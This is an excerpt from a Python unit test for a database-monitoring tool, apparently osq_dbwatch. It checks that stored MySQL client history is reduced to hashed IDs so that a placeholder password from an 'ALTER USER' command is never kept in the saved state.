    from osq_dbwatch.correlate.rows import HistoryRow

    command = "ALTER USER app IDENTIFIED BY 'Pl4nted-S3cret'"
    file = "/home/mallory/.mysql_history"
    raw = f"h|mallory|{file}|{command}"
    old = HostState("db-1").to_json()
    old["history"] = {raw: 1793577600}
    state = HostState.from_json(old)
    assert list(state.history) == [history_id("mallory", file, command)]
    assert b"Pl4nted-S3cret" not in dumps(state.to_json())
    engine = Engine(parse_config(""))
    row = HistoryRow(query="db_client_history", host="db-1", time=1793577660, user="mallory", uid=1003,
                     engine="mysql", command=command, intent="", output_path="", file=file)
    engine.on_history(state, row)
    assert not state.chains and list(state.history) == [history_id("mallory", file, command)]
